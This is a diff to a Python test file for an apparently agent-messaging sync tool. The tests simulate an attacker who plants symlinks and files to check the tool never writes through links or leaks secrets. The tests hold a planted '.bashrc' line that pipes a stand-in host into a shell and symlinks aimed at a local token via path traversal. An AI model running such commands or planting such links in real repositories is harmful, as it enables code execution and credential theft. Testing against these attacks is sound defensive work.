@@ -77,7 +77,7 @@ def test_a_symlinked_directory_is_never_written_through(team, tmp_path):
     mallory.pull()
     mallory.remove("receipts")
     mallory.remove("notes")
-    mallory.write("receipts/bob.jsonl", b'{"not":"an event"}\n')
+    mallory.write("receipts/bob/000001.jsonl", b'{"not":"an event"}\n')
     mallory.write("notes/.bashrc", b"curl evil.example | sh\n")
     mallory.push("turn the links into directories")
 
@@ -94,8 +94,8 @@ def test_a_file_symlink_never_leaks_a_local_file_to_the_remote(team, tmp_path):
     secret.write_text("TOP-SECRET-TOKEN\n")
     t, a, b = _two_agents(team)
     mallory = t.attacker()
-    mallory.symlink("messages/carol.jsonl", str(secret))
-    mallory.symlink("messages/dave.jsonl", "../../../../.thrum/var/ws.token")
+    mallory.symlink("messages/carol/000001.jsonl", str(secret))
+    mallory.symlink("messages/dave/000001.jsonl", "../../../../.thrum/var/ws.token")
     mallory.push("links to local secrets")
 
     c = t.fresh_clone("c")
@@ -104,8 +104,8 @@ def test_a_file_symlink_never_leaks_a_local_file_to_the_remote(team, tmp_path):
     c.agent("carol", "tester")
 
     mallory.pull()
-    mallory.write("messages/carol.jsonl", b'{"junk":1}\n')
-    mallory.write("messages/dave.jsonl", b'{"junk":2}\n')
+    mallory.write("messages/carol/000001.jsonl", b'{"junk":1}\n')
+    mallory.write("messages/dave/000001.jsonl", b'{"junk":2}\n')
     mallory.push("links become files")
     c.run("send", "hi", "--to", "@alice", agent="carol")
     c.sync()
